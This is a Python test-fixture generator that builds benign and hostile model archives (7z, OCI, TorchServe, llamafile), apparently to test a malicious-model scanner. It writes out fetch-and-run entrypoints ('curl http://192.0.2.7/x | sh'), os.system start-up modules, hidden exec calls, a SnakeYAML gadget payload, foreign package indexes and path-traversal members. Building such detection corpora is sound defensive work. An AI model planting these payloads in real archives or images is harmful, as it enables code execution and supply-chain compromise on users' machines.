"""Archives that carry models: 7z, OCI layouts, TorchServe archives, llamafiles."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import struct
import zlib
from collections.abc import Iterator
from typing import Any
from unittest import mock

from core import Corpus, elf_library, floats, half_pickle, make_tar, make_zip, pe_library

PLAIN_PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00wK\x01s."


@contextlib.contextmanager
def _still_7z() -> Iterator[None]:
    """Fixes py7zr's clock and its random numbers, so that archives repeat."""
    with mock.patch("py7zr.helpers._time.time", return_value=1704164646.0), mock.patch("py7zr.compressor.get_random_bytes", bytes):
        yield


def _seven(
    members: list[tuple[str, bytes]],
    filters: list[dict[str, Any]] | None = None,
    password: str | None = None,
    hide: bool = False,
    plain_header: bool = False,
) -> bytes:
    import py7zr

    buffer = io.BytesIO()
    with _still_7z():
        with py7zr.SevenZipFile(buffer, "w", filters=filters, password=password, header_encryption=hide) as archive:
            archive.set_encoded_header_mode(not plain_header)
            for name, data in members:
                archive.writestr(data, name)
    return buffer.getvalue()


def _rename_7z(data: bytes, old: str, new: str) -> bytes:
    """Changes a name (of the same length) in a plain header and mends the checksums."""
    assert len(old) == len(new)
    offset, size = struct.unpack("<QQ", data[12:28])
    header = data[32 + offset : 32 + offset + size].replace(old.encode("utf-16-le"), new.encode("utf-16-le"))
    start = struct.pack("<QQI", offset, size, zlib.crc32(header))
    return data[:8] + struct.pack("<I", zlib.crc32(start)) + start + data[32 : 32 + offset] + header


def _seven_head(data: bytes, offset: int | None = None, size: int | None = None, crc: int | None = None) -> bytes:
    old_offset, old_size, old_crc = struct.unpack("<QQI", data[12:32])
    start = struct.pack(
        "<QQI", old_offset if offset is None else offset, old_size if size is None else size, old_crc if crc is None else crc
    )
    return data[:8] + struct.pack("<I", zlib.crc32(start)) + start + data[32:]


def _seven_filters(corpus: Corpus) -> list[tuple[str, list[dict[str, Any]]]]:
    import py7zr

    lzma2 = {"id": py7zr.FILTER_LZMA2, "preset": corpus.pick(3, 7)}
    return [
        ("LZMA2", [lzma2]),
        ("LZMA", [{"id": py7zr.FILTER_LZMA}]),
        ("BCJ and LZMA2", [{"id": py7zr.FILTER_X86}, lzma2]),
        ("Delta and LZMA", [{"id": py7zr.FILTER_DELTA, "dist": 4}, {"id": py7zr.FILTER_LZMA}]),
        ("copy", [{"id": py7zr.FILTER_COPY}]),
        ("bzip2", [{"id": py7zr.FILTER_BZIP2}]),
        ("deflate", [{"id": py7zr.FILTER_DEFLATE}]),
        ("PPMd", [{"id": py7zr.FILTER_PPMD, "order": 6, "mem": 24}]),
    ]


def seven_zip(corpus: Corpus) -> None:
    """7z archives by py7zr, with patched heads for the lies."""
    config = ("config.json", json.dumps({"model_type": corpus.pick("bert", "gpt2")}).encode())
    weights = ("data.bin", floats(corpus, 500))
    for name, filters in _seven_filters(corpus):
        data = _seven([config, weights, ("archive/data.pkl", PLAIN_PICKLE)], filters)
        corpus.benign("7z", corpus.pick("model.7z", "pytorch_model.bin"), data, f"weights packed by {name}")
    corpus.benign("7z", "model.7z", plain := _seven([config, weights], plain_header=True), "plain header")
    evil = half_pickle(corpus)
    choices = _seven_filters(corpus)
    for number in (0, 1, 2, corpus.pick(3, 4)):
        corpus.bad(
            "7z",
            corpus.pick("pytorch_model.bin", "model.7z"),
            _seven([config, ("archive/data.pkl", evil)], choices[number][1]),
            f"calling pickle packed by {choices[number][0]}",
            "pickle call",
        )
    corpus.bad("7z", "model.7z", _seven([("weights.bin", elf_library(corpus)), config]), "native library", "native code")
    traversal = _rename_7z(plain, "config.json", corpus.pick("../../x.cfg", "/etc/cron.d"))
    corpus.bad("7z", "model.7z", traversal, "member outside", "path traversal")
    corpus.bad("7z", "model.7z", _seven([("archive/data.pkl", evil)], password="formats"), "encrypted members", "cannot be inspected")
    corpus.bad(
        "7z", "model.7z", _seven([("archive/data.pkl", evil)], password="formats", hide=True), "encrypted names", "cannot be inspected"
    )
    inner = _seven([("data.pkl", evil)], choices[corpus.pick(1, 0)][1])
    corpus.bad("7z", "model.7z", _seven([("inner.7z", inner)]), "pickle in an archive in an archive", "pickle call")
    corpus.lie("7z", "model.7z", _seven_head(plain, offset=corpus.pick(1 << 40, (1 << 64) - 33)), "header beyond the file")
    corpus.lie("7z", "model.7z", _seven_head(plain, size=corpus.pick(1 << 40, (1 << 63))), "header longer than the file")
    corpus.lie("7z", "model.7z", _seven_head(plain, crc=corpus.pick(1, 0xFFFFFFFF)), "header checksum lies")
    corpus.lie("7z", "model.7z", plain[: corpus.pick(-10, 60)], "truncated archive")


def _blob(data: bytes, media: str, **more: Any) -> tuple[dict[str, Any], bytes]:
    return {"mediaType": media, "digest": "sha256:" + hashlib.sha256(data).hexdigest(), "size": len(data), **more}, data


def _layout(layers: list[tuple[dict[str, Any], bytes]], config: tuple[dict[str, Any], bytes], artifact: str = "") -> dict[str, bytes]:
    """An OCI layout of one manifest."""
    body = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": config[0],
        "layers": [row for row, _ in layers],
    }
    if artifact:
        body["artifactType"] = artifact
    manifest = _blob(json.dumps(body).encode(), "application/vnd.oci.image.manifest.v1+json")
    files = {
        "oci-layout": b'{"imageLayoutVersion":"1.0.0"}',
        "index.json": json.dumps({"schemaVersion": 2, "manifests": [manifest[0]]}).encode(),
    }
    for row, data in [*layers, config, manifest]:
        files[f"blobs/sha256/{hashlib.sha256(data).hexdigest()}"] = data
    return files


def _gguf(corpus: Corpus, name: str = "tiny") -> bytes:
    """A small GGUF with one tensor."""

    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 2) + text("general.architecture") + struct.pack("<I", 8) + text("llama")
    head += text("general.name") + struct.pack("<I", 8) + text(name) + text("w") + struct.pack("<IQIQ", 1, 16, 0, 0)
    return head.ljust((len(head) + 31) // 32 * 32, b"\0") + floats(corpus, 16)


def _image_config(corpus: Corpus, **more: Any) -> tuple[dict[str, Any], bytes]:
    body = {
        "architecture": "amd64",
        "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": []},
        "config": {"Entrypoint": ["python3", "serve.py"], "Env": ["PATH=/usr/bin", f"MODEL={corpus.pick('bert', 'llama')}"], **more},
    }
    return _blob(json.dumps(body).encode(), "application/vnd.oci.image.config.v1+json")


def _tar_layer(members: list[tuple[str, bytes]], links: dict[str, str] | None = None, packed: bool = True) -> tuple[dict[str, Any], bytes]:
    media = "application/vnd.oci.image.layer.v1.tar" + ("+gzip" if packed else "")
    return _blob(make_tar(members, "w:gz" if packed else "w", links), media)


def oci(corpus: Corpus) -> None:
    """Image layouts, model artifacts, a docker save."""
    weights = [("models/weights.bin", floats(corpus, 64)), ("models/config.json", b"{}")]
    config = _image_config(corpus)
    corpus.add_tree("oci", "benign", _layout([_tar_layer(weights)], config), "image with weights", "clean")
    corpus.add_tree(
        "oci",
        "benign",
        _layout([_tar_layer(weights, packed=False), _tar_layer([("models/.wh.old.bin", b"")])], config),
        "image with a whiteout",
        "clean",
    )
    gguf = _blob(_gguf(corpus), "application/vnd.docker.ai.gguf.v3")
    model = _blob(b'{"descriptor":{},"config":{"format":"gguf"}}', "application/vnd.docker.ai.model.config.v0.1+json")
    corpus.add_tree("oci", "benign", _layout([gguf], model), "Docker model", "clean")
    kit = _blob(make_tar([("model.bin", floats(corpus, 16))], "w:gz"), "application/vnd.kitops.modelkit.model.v1.tar+gzip")
    kitfile = _blob(b'{"manifestVersion":"1.0.0","model":{"path":"model.bin"}}', "application/vnd.kitops.modelkit.config.v1+json")
    corpus.add_tree("oci", "benign", _layout([kit], kitfile), "ModelKit", "clean")
    pack = _blob(_gguf(corpus, "pack"), "application/vnd.cncf.model.weight.v1.raw")
    corpus.add_tree(
        "oci",
        "benign",
        _layout([pack], _blob(b"{}", "application/vnd.cncf.model.config.v1+json"), "application/vnd.cncf.model.manifest.v1+json"),
        "ModelPack",
        "clean",
    )
    corpus.benign("oci", "layout.tar", make_tar(list(_layout([_tar_layer(weights)], config).items())), "layout in a tar")
    ollama = _blob(_gguf(corpus, "ollama"), "application/vnd.ollama.image.model")
    corpus.add_tree(
        "oci",
        "benign",
        _layout([ollama, _blob(b"{{ .Prompt }}", "application/vnd.ollama.image.template")], config),
        "Ollama layers",
        "clean",
    )
    saved = [
        ("manifest.json", b'[{"Config":"c.json","RepoTags":["m:1"],"Layers":["l/layer.tar"]}]'),
        ("c.json", config[1]),
        ("l/layer.tar", make_tar(weights)),
    ]
    corpus.benign("oci", "image.tar", make_tar(saved), "docker save")
    _oci_attacks(corpus, config, weights, saved)
    _oci_lies(corpus, config, weights)


def _oci_attacks(
    corpus: Corpus, config: tuple[dict[str, Any], bytes], weights: list[tuple[str, bytes]], saved: list[tuple[str, bytes]]
) -> None:
    evil = half_pickle(corpus)
    layers = [
        ("calling pickle in a layer", [_tar_layer([("models/model.pkl", evil)])]),
        ("layer member outside", [_tar_layer([(corpus.pick("../../etc/cron.d/x", "/root/.ssh/authorized_keys"), b"x")])]),
        ("symlink outside", [_tar_layer([("data/x", b"x")], {"data": corpus.pick("../../../etc", "/var/run")})]),
        (
            "start-up module in a layer",
            [
                _tar_layer(
                    [
                        (
                            corpus.pick("usr/lib/python3/dist-packages/sitecustomize.py", "usr/lib/python3.11/site-packages/x.pth"),
                            f"import os; os.system('{corpus.command}')\n".encode(),
                        )
                    ]
                )
            ],
        ),
        ("native library as weights", [_blob(elf_library(corpus), "application/vnd.cncf.model.weight.v1.raw")]),
        (
            "foreign layer of another host",
            [_blob(b"x", "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip", urls=["http://192.0.2.7/l.tar"])],
        ),
    ]
    for technique, rows in layers:
        corpus.add_tree("oci", "malicious", _layout(rows, config), technique, "hostile layer")
    shell = _image_config(
        corpus, Entrypoint=["sh", "-c", corpus.pick("curl http://192.0.2.7/x | sh", "wget -qO- http://192.0.2.7/x | bash")]
    )
    corpus.add_tree("oci", "malicious", _layout([_tar_layer(weights)], shell), "entry point that fetches and runs", "code execution")
    hostile = json.dumps([{"Config": "c.json", "RepoTags": None, "Layers": [corpus.pick("../../etc/passwd", "/tmp/layer.tar")]}])
    corpus.bad(
        "oci", "image.tar", make_tar([("manifest.json", hostile), *saved[1:]]), "docker save that names a path outside", "path traversal"
    )


def _oci_lies(corpus: Corpus, config: tuple[dict[str, Any], bytes], weights: list[tuple[str, bytes]]) -> None:
    row, data = _tar_layer(weights)
    files = _layout([(row, data)], config)
    name = f"blobs/sha256/{hashlib.sha256(data).hexdigest()}"
    corpus.add_tree("oci", "lie", {**files, name: data + b"changed"}, "blob differs from its digest", "lie")
    corpus.add_tree("oci", "lie", _layout([({**row, "size": corpus.pick(1, 1 << 50)}, data)], config), "declared size lies", "lie")
    corpus.add_tree("oci", "lie", {key: value for key, value in files.items() if key != name}, "blob is missing", "lie")
    corpus.add_tree(
        "oci", "lie", _layout([({**row, "digest": corpus.pick("sha256:../../x", "sha256:zz")}, data)], config), "digest that is none", "lie"
    )


HANDLER = """from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def preprocess(self, data):
        return [row["body"] for row in data]
"""


def _mar(corpus: Corpus, members: list[tuple[str, str | bytes]], **model: Any) -> bytes:
    body = {"modelName": "net", "serializedFile": "model.pt", "handler": "image_classifier", "modelVersion": "1.0", **model}
    manifest = {"createdOn": "02/01/2024 03:04:05", "runtime": "python", "model": body, "archiverVersion": corpus.pick("0.8.2", "0.11.0")}
    weights = make_zip([("net/data.pkl", PLAIN_PICKLE), ("net/data/0", floats(corpus, 16)), ("net/version", "3\n")])
    base: list[tuple[str, str | bytes]] = [("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2))]
    if not any(name == "model.pt" for name, _ in members):
        base.append(("model.pt", weights))
    return make_zip(base + members)


def mar(corpus: Corpus) -> None:
    """TorchServe archives."""
    for handler in ("image_classifier", "text_classifier", corpus.pick("object_detector", "image_segmenter")):
        corpus.benign(
            "mar", "net.mar", _mar(corpus, [("index_to_name.json", '{"0":"cat"}')], handler=handler), f"built-in handler {handler}"
        )
    corpus.benign("mar", "net.mar", _mar(corpus, [("handler.py", HANDLER)], handler="handler.py"), "plain handler of its own")
    corpus.benign(
        "mar",
        "net.mar",
        _mar(corpus, [("requirements.txt", "numpy==1.26.4\n")], requirementsFile="requirements.txt"),
        "pinned requirements",
    )
    corpus.benign(
        "mar",
        "net.mar",
        _mar(corpus, [("model-config.yaml", "minWorkers: 1\nmaxWorkers: 2\n")], configFile="model-config.yaml"),
        "with a configuration",
    )
    notes = ("README.md", "Do not call os.system or subprocess in a handler.\n")
    corpus.benign("mar", "net.mar", _mar(corpus, [notes], extraFiles="README.md"), "notes that name dangerous calls")
    _mar_attacks(corpus)


def _mar_attacks(corpus: Corpus) -> None:
    """Handlers, weights, requirements and configurations that reach or run something."""
    run = corpus.pick(f"import os\nos.system({corpus.command!r})\n", f"import subprocess\nsubprocess.run({corpus.command!r}, shell=True)\n")
    corpus.bad(
        "mar",
        "net.mar",
        _mar(corpus, [("handler.py", run + HANDLER)], handler="handler.py"),
        "handler that runs a command",
        "code execution",
    )
    hidden = (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
        if corpus.half == "tuning"
        else "exec(bytes.fromhex('7072696e742831290a'))\n"
    )
    corpus.bad("mar", "net.mar", _mar(corpus, [("net.py", hidden)], modelFile="net.py"), "model file that hides code", "code execution")
    evil = make_zip([("net/data.pkl", half_pickle(corpus)), ("net/version", "3\n")])
    corpus.bad("mar", "net.mar", _mar(corpus, [("model.pt", evil)]), "weights that call", "pickle call")
    needs = corpus.pick("--index-url http://192.0.2.7/simple\nnumpyy\n", "git+https://192.0.2.7/x.git#egg=x\n")
    corpus.bad(
        "mar",
        "net.mar",
        _mar(corpus, [("requirements.txt", needs)], requirementsFile="requirements.txt"),
        "requirements of another index",
        "supply chain",
    )
    corpus.bad(
        "mar", "net.mar", _mar(corpus, [(corpus.pick("../../../tmp/x.py", "/tmp/x.py"), "pass\n")]), "member outside", "path traversal"
    )
    corpus.bad(
        "mar",
        "net.mar",
        _mar(corpus, [], handler=corpus.pick("../../../tmp/h.py:run", "http://192.0.2.7/h.py")),
        "handler outside",
        "code execution",
    )
    yaml = (
        f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.7/{corpus.pick("a", "b")}"]]]]\n'
    )
    corpus.bad(
        "mar",
        "net.mar",
        _mar(corpus, [("model-config.yaml", yaml)], configFile="model-config.yaml"),
        "YAML object tag (CVE-2022-1471)",
        "code execution",
    )
    corpus.lie("mar", "net.mar", _mar(corpus, [], handler="missing.py"), "handler is not in the archive")
    corpus.lie("mar", "net.mar", _mar(corpus, [])[: corpus.pick(-30, 200)], "truncated archive")


def _llamafile(corpus: Corpus, members: list[tuple[str, str | bytes]], head: bytes | None = None) -> bytes:
    """An imitation of an αcτµαlly pδrταblε εxεcµταblε: its head, then a zip that ends the file."""
    script = b"MZqFpD='\n" + b"\0" * 55 + struct.pack("<I", 128) + b"' <<'@'\n@\n: imitation, no program\nexit 1\n"
    start = script.ljust(4096, b"\0") if head is None else head
    return start + make_zip(members)


def llamafile(corpus: Corpus) -> None:
    """llamafiles are programs by design; models and other programs that are none pretend to be weights."""
    args = f"-m\ntiny.gguf\n--temp\n{corpus.pick('0.7', '0.2')}\n"
    for name in ("tiny", "chat", "code"):
        corpus.benign("llamafile", f"{name}.gguf", _gguf(corpus, name), "plain GGUF as a control")
    corpus.benign("llamafile", "models.zip", make_zip([("tiny.gguf", _gguf(corpus)), (".args", args)]), "zip of a GGUF without a program")
    chance = floats(corpus, 40) + b"\x7fELF" + floats(corpus, 40) + b"MZ" + floats(corpus, 40) + b"#!/bin/sh" + floats(corpus, 40)
    corpus.benign("llamafile", "weights.bin", bytes(16) + chance, "weights with the first bytes of programs by chance")
    corpus.benign("llamafile", "weights.f32", bytes(4) + floats(corpus, 400), "bare weights")
    header = json.dumps({"w": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}).encode()
    corpus.benign(
        "llamafile", "model.safetensors", struct.pack("<Q", len(header)) + header + floats(corpus, 16), "safetensors as a control"
    )
    corpus.benign("llamafile", "named.gguf", _gguf(corpus, "MZqFpD llamafile"), "GGUF whose name is like a program's head")
    bare = _llamafile(corpus, [("tiny.gguf", _gguf(corpus)), (".args", args)])
    full = _llamafile(corpus, [("tiny.gguf", _gguf(corpus)), (".args", args)])
    corpus.bad("llamafile", "model.llamafile", full, "llamafile: an executable by design", "executable")
    corpus.bad("llamafile", "model.gguf", bare, "llamafile with the name of weights", "executable")
    corpus.bad("llamafile", "model.safetensors", elf_library(corpus, 4096), "library with the name of weights", "executable")
    corpus.bad("llamafile", "model.onnx", pe_library(corpus, 4096), "DLL with the name of weights", "executable")
    mach = struct.pack("<IIIIIIII", 0xFEEDFACF, corpus.pick(0x01000007, 0x0100000C), 3, 2, 1, 72, 0x85, 0) + bytes(400)
    corpus.bad("llamafile", "model.bin", mach, "Mach-O program with the name of weights", "executable")
    corpus.bad(
        "llamafile", "model.gguf", f"#!/bin/sh\n{corpus.command}\n".encode() + _gguf(corpus), "shell script before a GGUF", "executable"
    )
    corpus.bad(
        "llamafile",
        "model.gguf",
        _gguf(corpus) + corpus.pick(elf_library(corpus), pe_library(corpus)),
        "program after a GGUF",
        "native code",
    )
    corpus.bad(
        "llamafile",
        "model.llamafile",
        _llamafile(corpus, [("../../x.gguf", _gguf(corpus))]),
        "llamafile with a member outside",
        "executable",
    )
    corpus.lie("llamafile", "model.gguf", _gguf(corpus)[: -corpus.pick(8, 40)], "GGUF whose tensor ends beyond the file")


MAKERS = {"7z": seven_zip, "oci": oci, "mar": mar, "llamafile": llamafile}
